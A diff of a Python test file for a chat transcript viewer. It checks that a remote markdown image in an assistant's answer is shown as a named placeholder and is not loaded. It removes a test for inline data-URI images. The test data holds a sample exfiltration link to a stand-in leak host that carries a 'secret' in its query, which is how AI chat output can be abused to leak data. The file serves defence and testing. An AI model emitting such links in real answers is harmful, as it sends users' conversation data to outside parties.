@@ -365,19 +365,7 @@ def test_nothing_is_loaded_for_a_remote_picture(view: TranscriptView, talk: Talk
     talk.ask("Picture?")
     talk.answer("![chart](https://leak.example.com/x.png?said=secret)")
     view.show_conversation(talk.conversation)
-    assert "Picture from leak.example.com: chart" in shown_text(view)
-    assert "\ufffc" not in shown_text(view)
-
-
-def test_a_carried_picture_is_drawn(view: TranscriptView, talk: Talk) -> None:
-    dot = (
-        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8"
-        "z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
-    )
-    talk.ask("Picture?")
-    talk.answer(f"Here: ![dot]({dot})")
-    view.show_conversation(talk.conversation)
-    assert "Here: \ufffc" in shown_text(view)
+    assert "Picture from leak.example.com\nchart" in shown_text(view)
 
 
 def test_attachments_are_named_and_the_text_follows(view: TranscriptView, talk: Talk) -> None:
